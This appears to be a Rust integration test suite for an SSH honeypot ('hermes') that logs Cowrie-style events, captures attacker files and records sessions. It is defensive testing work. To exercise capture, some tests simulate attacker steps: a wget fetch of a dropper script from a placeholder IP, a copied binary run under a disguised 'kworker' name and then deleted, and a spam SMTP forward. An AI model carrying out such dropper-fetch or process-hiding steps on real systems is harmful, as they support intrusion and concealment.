//! Nothing the attacker does is lost: every event id a real session produces, checked
//! against the catalogue (names and types); command lines from keystrokes; files
//! captured into the store (written, fetched, uploaded with scp and sftp, deleted
//! before logout, in /dev/shm, running but deleted); limits; SIGKILL; rotation;
//! a full disk; and the recordings read back by asciinema and `hermes replay`.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use hermes_core::config::{ByteSize, DirectTcpipMode, EventRotation};
use serde_json::Value;

use crate::client::{Client, ROOT_PROMPT, root_shell};
use crate::events::{Events, id_of};
use crate::harness::{Hermes, Options, SmallDisk, read_cast, sha256_hex, succeeded};

/// Waits until the session that logged in last has closed, and returns the events.
fn wait_closed(hermes: &Hermes, count: usize) -> Vec<Value> {
    hermes.wait_for_at_least("cowrie.session.closed", count)
}

/// The file events of the store for `destfile`.
fn file_event<'a>(events: &'a [Value], id: &str, destfile: &str) -> Option<&'a Value> {
    events
        .of(id)
        .into_iter()
        .find(|e| e["destfile"] == destfile)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_leaves_every_file_it_made_in_the_store() {
    require_docker!();
    let hermes = Hermes::start(Options::default());
    let (client, mut shell) = root_shell(hermes.port).await;
    // A fetch that cannot reach its server (the container has no network), then
    // the same name written by the shell: the file is labelled with the URL.
    shell
        .run(
            "cd /tmp; wget -q -T 1 -t 1 http://198.51.100.9/bins/x86.sh || printf '#!/bin/sh\\necho pwned\\n' > x86.sh; cd",
            ROOT_PROMPT,
        )
        .await;
    // Written, then deleted before logout: the pass after the command catches it.
    // `logger` writes to the box's own logs (systemd's journal, rsyslog's user.log),
    // which are not the attacker's files.
    shell
        .run(
            "echo 'short-lived secret' > /var/tmp/gone.txt; logger probe-note",
            ROOT_PROMPT,
        )
        .await;
    tokio::time::sleep(Duration::from_secs(5)).await;
    shell.run("rm -f /var/tmp/gone.txt", ROOT_PROMPT).await;
    // In /dev/shm (a tmpfs the engine's diff does not see), read from the host: beside
    // the payloads, a link to a file the host has too and a FIFO no one writes to,
    // neither of which may be followed or opened.
    shell
        .run(
            "printf 'shm payload' > /dev/shm/.x; mkdir -p /dev/shm/sub /root/.cache; printf 'inner' > /dev/shm/sub/inner; ln -s /etc/hostname /dev/shm/link; mkfifo /dev/shm/pipe",
            ROOT_PROMPT,
        )
        .await;
    // A running program whose file was deleted (a miner that hides itself).
    let sleep_hash = shell.run("sha256sum /bin/sleep", ROOT_PROMPT).await;
    let sleep_hash: String = sleep_hash
        .split_whitespace()
        .find(|w| w.len() == 64)
        .expect("sha256sum output")
        .to_owned();
    shell
        .run(
            "cp /bin/sleep /root/.cache/kworker; (/root/.cache/kworker 600 &); sleep 0.5; rm /root/.cache/kworker",
            ROOT_PROMPT,
        )
        .await;
    shell.send("exit\n").await;
    assert!(shell.read_to_close(Duration::from_secs(20)).await);
    drop(shell);
    drop(client);

    let events = wait_closed(&hermes, 1);
    let x86 = file_event(&events, "cowrie.session.file_download", "/tmp/x86.sh")
        .unwrap_or_else(|| panic!("no capture of /tmp/x86.sh: {events:#?}"));
    let payload = b"#!/bin/sh\necho pwned\n";
    assert_eq!(x86["shasum"], sha256_hex(payload));
    assert_eq!(x86["size"], payload.len());
    assert_eq!(x86["url"], "http://198.51.100.9/bins/x86.sh");
    assert_eq!(x86["duplicate"], false);
    let outfile = PathBuf::from(x86["outfile"].as_str().expect("outfile"));
    assert_eq!(std::fs::read(&outfile).expect("stored file"), payload);
    assert_eq!(
        outfile
            .file_name()
            .map(|n| n.to_string_lossy().into_owned()),
        Some(sha256_hex(payload))
    );
    assert!(outfile.starts_with(hermes.downloads()));

    let gone = file_event(&events, "cowrie.session.file_download", "/var/tmp/gone.txt")
        .expect("a file deleted before logout is captured");
    assert_eq!(gone["shasum"], sha256_hex(b"short-lived secret\n"));
    assert!(gone.get("url").is_none());

    let shm = file_event(&events, "cowrie.session.file_download", "/dev/shm/.x")
        .expect("/dev/shm is captured");
    assert_eq!(shm["shasum"], sha256_hex(b"shm payload"));
    let inner = file_event(
        &events,
        "cowrie.session.file_download",
        "/dev/shm/sub/inner",
    )
    .expect("a file below /dev/shm is captured");
    assert_eq!(inner["shasum"], sha256_hex(b"inner"));
    for path in ["/dev/shm/link", "/dev/shm/pipe"] {
        assert!(
            file_event(&events, "cowrie.session.file_download", path).is_none(),
            "{path} is not a regular file: {events:#?}"
        );
    }

    let miner = file_event(
        &events,
        "cowrie.session.file_download",
        "/root/.cache/kworker",
    )
    .expect("a deleted executable still running is captured");
    assert_eq!(miner["shasum"], sleep_hash);

    // Everything is in the metadata too, and the store holds each content once.
    let session = x86["session"].as_str().expect("session");
    let metadata: Value = serde_json::from_slice(
        &std::fs::read(hermes.session_file(session, "json")).expect("metadata"),
    )
    .expect("json");
    let files: BTreeSet<&str> = metadata["files"]
        .as_array()
        .expect("files")
        .iter()
        .filter_map(|f| f["destfile"].as_str())
        .collect();
    for path in [
        "/tmp/x86.sh",
        "/var/tmp/gone.txt",
        "/dev/shm/.x",
        "/root/.cache/kworker",
    ] {
        assert!(files.contains(path), "{path} not in {files:?}");
    }
    assert_eq!(metadata["end_reason"], "exited");
    let commands: Vec<&str> = metadata["commands"]
        .as_array()
        .expect("commands")
        .iter()
        .filter_map(|c| c["input"].as_str())
        .collect();
    assert!(
        commands.iter().any(|c| c.starts_with("cd /tmp; wget")),
        "{commands:?}"
    );
    assert_eq!(commands.last(), Some(&"exit"));
    // No login bookkeeping in the store (wtmp, lastlog are ignored), nor the box's
    // own logs, which the session wrote to.
    assert!(file_event(&events, "cowrie.session.file_download", "/var/log/wtmp").is_none());
    for event in events.of("cowrie.session.file_download") {
        let destfile = event["destfile"].as_str().unwrap_or_default();
        assert!(
            !destfile.starts_with("/var/log/"),
            "a log of the box's own was captured: {destfile}"
        );
    }
}

#[test]
fn scp_and_sftp_uploads_are_reported_as_uploads() {
    require_docker!();
    let hermes = Hermes::start(Options::default());
    let dir = tempfile::tempdir().expect("tempdir");
    let scp_file = dir.path().join("tool.bin");
    std::fs::write(&scp_file, b"\x7fELF scp upload").expect("write");
    let sftp_file = dir.path().join("kit.tar");
    std::fs::write(&sftp_file, b"sftp upload contents").expect("write");

    // scp speaks SFTP by default (OpenSSH 9), the old protocol with -O.
    succeeded(
        hermes
            .openssh("scp", &["toor"], "password")
            .arg(&scp_file)
            .arg("root@127.0.0.1:/tmp/"),
    );
    let legacy = dir.path().join("legacy.bin");
    std::fs::write(&legacy, b"legacy scp protocol").expect("write");
    succeeded(
        hermes
            .openssh("scp", &["toor"], "password")
            .arg("-O")
            .arg(&legacy)
            .arg("root@127.0.0.1:/var/tmp/"),
    );
    // Commands on stdin (batch mode, -b, would forbid the password prompt).
    let mut sftp = hermes.openssh("sftp", &["toor"], "password");
    sftp.arg("root@127.0.0.1");
    let batch = format!("put {} uploaded.tar\n", sftp_file.display());
    let output = crate::harness::run_with_stdin(&mut sftp, batch.as_bytes());
    assert!(output.status.success(), "{output:?}");

    let events = wait_closed(&hermes, 3);
    let scp = file_event(&events, "cowrie.session.file_upload", "/tmp/tool.bin")
        .unwrap_or_else(|| panic!("no scp upload event: {events:#?}"));
    // The name as the client sent it (an SFTP open of the full path).
    assert_eq!(scp["filename"], "/tmp/tool.bin");
    let old = file_event(&events, "cowrie.session.file_upload", "/var/tmp/legacy.bin")
        .unwrap_or_else(|| panic!("no legacy scp upload event: {events:#?}"));
    assert_eq!(old["filename"], "legacy.bin");
    assert_eq!(old["shasum"], sha256_hex(b"legacy scp protocol"));
    assert_eq!(scp["shasum"], sha256_hex(b"\x7fELF scp upload"));
    let sftp = file_event(&events, "cowrie.session.file_upload", "/root/uploaded.tar")
        .unwrap_or_else(|| panic!("no sftp upload event: {events:#?}"));
    // sftp resolves the remote directory first and opens the full path.
    assert_eq!(sftp["filename"], "/root/uploaded.tar");
    assert_eq!(sftp["size"], 20);
    assert_eq!(
        std::fs::read(sftp["outfile"].as_str().expect("outfile")).expect("stored"),
        b"sftp upload contents"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn capture_limits_drop_files_with_an_event() {
    require_docker!();
    let hermes = Hermes::start(Options::default().configure(|c| {
        c.capture.max_file_size = ByteSize::kib(1);
        c.capture.max_files_per_session = 2;
    }));
    let client = Client::login(hermes.port, "root", "toor").await;
    let mut exec = client
        .exec(
            "head -c 4096 /dev/zero > /tmp/big; for i in 1 2 3 4; do echo $i > /tmp/small$i; done",
        )
        .await;
    assert!(exec.read_to_close(Duration::from_secs(20)).await);
    drop(exec);
    drop(client);
    let events = wait_closed(&hermes, 1);
    let big = file_event(&events, "hermes.file.skipped", "/tmp/big").expect("big skipped");
    assert_eq!(big["reason"], "max_file_size");
    assert_eq!(big["size"], 4096);
    let stored = events.count_of("cowrie.session.file_download");
    let too_many: Vec<_> = events
        .of("hermes.file.skipped")
        .into_iter()
        .filter(|e| e["reason"] == "max_files_per_session")
        .collect();
    assert_eq!(stored, 2, "{events:#?}");
    assert!(too_many.len() >= 2, "{too_many:?}");
}

/// Every id a real session produces, each checked (by the harness) against the
/// catalogue's fields and types.
#[tokio::test(flavor = "multi_thread")]
async fn every_event_of_real_sessions_matches_the_catalogue() {
    require_docker!();
    let hermes = Hermes::start(
        Options::default().configure(|c| c.forwarding.direct_tcpip = DirectTcpipMode::Capture),
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let key = dir.path().join("id_ed25519");
    succeeded(
        Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(&key),
    );
    // A key offered (refused), a wrong password, the right one; env, a terminal,
    // typed commands, a file; a forward with data.
    // The key alone (the harness's clients never offer keys), refused.
    let refused = crate::transport::ssh_with_key(&hermes, &key);
    assert!(!refused.status.success());
    let mut ssh = hermes.openssh("ssh", &["wrong", "toor"], "password");
    ssh.args(["-o", "SendEnv=LC_HERMES", "-tt"])
        .env("LC_HERMES", "1")
        .arg("root@127.0.0.1")
        .arg("echo data > /tmp/evidence; ls /tmp");
    let _ = ssh.output().expect("ssh");
    // A direct-tcpip forward through the in-process client.
    let client = Client::login(hermes.port, "root", "toor").await;
    let channel = client
        .handle
        .channel_open_direct_tcpip("198.51.100.20", 25, "10.0.0.1", 40000)
        .await
        .expect("captured forward");
    channel.data(&b"EHLO spam\r\n"[..]).await.expect("data");
    tokio::time::sleep(Duration::from_millis(500)).await;
    drop(channel);
    drop(client);
    succeeded(
        hermes
            .openssh("scp", &["toor"], "password")
            .arg(&key)
            .arg("root@127.0.0.1:/tmp/key"),
    );
    let events = wait_closed(&hermes, 4);
    let seen: BTreeSet<&str> = events.iter().filter_map(id_of).collect();
    for id in [
        "cowrie.session.connect",
        "cowrie.client.version",
        "cowrie.client.kex",
        "cowrie.client.fingerprint",
        "cowrie.client.size",
        "cowrie.client.var",
        "cowrie.login.failed",
        "cowrie.login.success",
        "cowrie.command.input",
        "cowrie.log.open",
        "cowrie.log.closed",
        "cowrie.session.file_download",
        "cowrie.session.file_upload",
        "cowrie.direct-tcpip.request",
        "cowrie.direct-tcpip.data",
        "cowrie.session.closed",
        "hermes.container.allocate",
        "hermes.container.release",
    ] {
        assert!(seen.contains(id), "no {id} among {seen:?}");
    }
    // Cowrie's shapes where pipelines parse them.
    let kex = events.of("cowrie.client.kex")[0];
    assert!(kex["kexAlgs"].as_array().is_some_and(|a| !a.is_empty()));
    assert_eq!(kex["hassh"].as_str().map(str::len), Some(32));
    let closed = events.of("cowrie.session.closed")[0];
    assert!(closed["duration_ms"].is_u64());
    for event in &events {
        assert_eq!(event["protocol"], "ssh");
        assert_eq!(event["src_ip"], "127.0.0.1");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sigkill_mid_session_leaves_whole_lines_everywhere() {
    require_docker!();
    let mut hermes = Hermes::start(Options::default());
    let (client, mut shell) = root_shell(hermes.port).await;
    shell.run("uname -a", ROOT_PROMPT).await;
    // Output still streaming when the process dies.
    shell.send("seq 1 10000000\n").await;
    assert!(shell.wait_for_bytes(200_000, Duration::from_secs(20)).await);
    hermes.kill_hard();
    drop(shell);
    drop(client);
    // Every event line parses and matches the catalogue (the harness checks).
    let events = hermes.events();
    assert!(
        events
            .of("cowrie.command.input")
            .into_iter()
            .any(|e| e["input"] == "uname -a; echo __done$((6*7))"),
        "{events:#?}"
    );
    let cast = hermes
        .recording_files()
        .into_iter()
        .find(|p| p.extension().is_some_and(|x| x == "cast"))
        .expect("cast file");
    let text = std::fs::read_to_string(&cast).expect("cast");
    assert!(text.ends_with('\n'), "the cast ends with a whole line");
    let (_, lines) = read_cast(&cast);
    assert!(lines.len() > 10);
    // asciinema reads what is there.
    assert!(asciinema_cat(&cast).contains("Linux"));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_event_log_rotates_by_size_without_losing_a_line() {
    require_docker!();
    let hermes = Hermes::start(
        Options {
            failure_delay_ms: 0,
            ..Options::default()
        }
        .configure(|c| {
            c.logging.event_rotation = EventRotation::Size;
            c.logging.event_rotation_size = ByteSize::kib(4);
        }),
    );
    // Two clients at a time: under the admission limits for one source.
    let mut tasks = Vec::new();
    for _ in 0..2 {
        let port = hermes.port;
        tasks.push(tokio::spawn(async move {
            for i in 0..40 {
                let mut handle = crate::client::connect(port).await.expect("connect");
                let _ = handle
                    .authenticate_password(format!("user{i}"), "wrong")
                    .await;
            }
        }));
    }
    for task in tasks {
        task.await.expect("client");
    }
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let (files, lines) = all_event_lines(&hermes.log_dir());
        let failed = lines.count_of("cowrie.login.failed");
        if failed >= 80 {
            assert!(files > 3, "rotated into {files} files");
            assert_eq!(failed, 80, "no line twice");
            break;
        }
        assert!(Instant::now() < deadline, "{failed} of 80 failures logged");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The output of `asciinema cat` (the real asciinema, which wants a terminal: run
/// under `script`).
fn asciinema_cat(cast: &Path) -> String {
    let out = Command::new("script")
        .args(["-q", "-e", "-c"])
        .arg(format!("asciinema cat '{}'", cast.display()))
        .arg("/dev/null")
        .output()
        .expect("script and asciinema (scripts/test.sh installs asciinema)");
    assert!(out.status.success(), "asciinema cat failed: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Every event line of every file of the event log (rotated ones included).
fn all_event_lines(dir: &Path) -> (usize, Vec<Value>) {
    let mut files = 0;
    let mut lines = Vec::new();
    for entry in std::fs::read_dir(dir)
        .expect("log dir")
        .filter_map(Result::ok)
    {
        let name = entry.file_name().to_string_lossy().into_owned();
        if !name.starts_with("hermes.json") {
            continue;
        }
        files += 1;
        let text = std::fs::read_to_string(entry.path()).expect("read");
        for line in text.lines() {
            let value: Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("{name}: {e}: {line}"));
            let id =
                hermes_core::events::EventId::from_name(value["eventid"].as_str().expect("id"))
                    .expect("known id");
            id.check(value.as_object().expect("object"))
                .unwrap_or_else(|e| panic!("{e}"));
            lines.push(value);
        }
    }
    (files, lines)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_full_disk_ends_the_recording_not_the_session() {
    require_docker!();
    let base = tempfile::tempdir().expect("tempdir");
    let disk = SmallDisk::mount(&base.path().join("small"), "256k");
    let recordings = disk.path.join("recordings");
    let hermes = Hermes::start(Options {
        recording_dir: Some(recordings.clone()),
        ..Options::default()
    });
    let (client, mut shell) = root_shell(hermes.port).await;
    // Far more output than the disk holds.
    shell.run("seq 1 100000", ROOT_PROMPT).await;
    let alive = shell.run("echo still-$((40+2))", ROOT_PROMPT).await;
    assert!(alive.contains("still-42"), "{alive}");
    shell.send("exit\n").await;
    assert!(shell.read_to_close(Duration::from_secs(20)).await);
    drop(shell);
    drop(client);
    let events = wait_closed(&hermes, 1);
    let error = events.of("hermes.record.error");
    assert_eq!(error.len(), 1, "{events:#?}");
    assert!(
        error[0]["error"]
            .as_str()
            .is_some_and(|e| e.contains("No space left")),
        "{error:?}"
    );
    assert_eq!(events.count_of("cowrie.log.closed"), 1);
    // What was written is whole lines of valid JSON.
    let cast = std::fs::read_dir(&recordings)
        .ok()
        .and_then(|_| {
            hermes
                .recording_files()
                .into_iter()
                .find(|p| p.extension().is_some_and(|x| x == "cast"))
        })
        .expect("cast");
    let text = std::fs::read_to_string(&cast).expect("cast");
    assert!(text.ends_with('\n'));
    let (header, lines) = read_cast(&cast);
    assert_eq!(header["version"], 2);
    assert!(!lines.is_empty());
    drop(hermes);
    drop(disk);
}

#[tokio::test(flavor = "multi_thread")]
async fn sessions_and_replay_read_a_real_session() {
    require_docker!();
    let hermes = Hermes::start(Options::default());
    let (client, mut shell) = root_shell(hermes.port).await;
    shell.run("echo replay-$((6*9))", ROOT_PROMPT).await;
    shell.send("exit\n").await;
    assert!(shell.read_to_close(Duration::from_secs(20)).await);
    drop(shell);
    drop(client);
    let events = wait_closed(&hermes, 1);
    let session = events.of("cowrie.session.closed")[0]["session"]
        .as_str()
        .expect("session")
        .to_owned();
    let dir = hermes.recordings();
    let hermes_bin = env!("CARGO_BIN_EXE_hermes");
    let list = succeeded(
        Command::new(hermes_bin)
            .args(["sessions", "--dir"])
            .arg(&dir),
    );
    assert!(list.contains(&session), "{list}");
    assert!(list.contains("127.0.0.1"), "{list}");
    let replay = succeeded(
        Command::new(hermes_bin)
            .args(["replay", &session, "--speed", "1000", "--dir"])
            .arg(&dir),
    );
    assert!(replay.contains("replay-54"), "{replay}");
    let timeline = succeeded(
        Command::new(hermes_bin)
            .args(["replay", &session, "--commands", "--dir"])
            .arg(&dir),
    );
    assert!(timeline.contains("echo replay-$((6*9))"), "{timeline}");
    assert!(timeline.contains("exit"), "{timeline}");
    let cast = hermes.session_file(&session, "cast");
    assert!(asciinema_cat(&cast).contains("replay-54"));
}
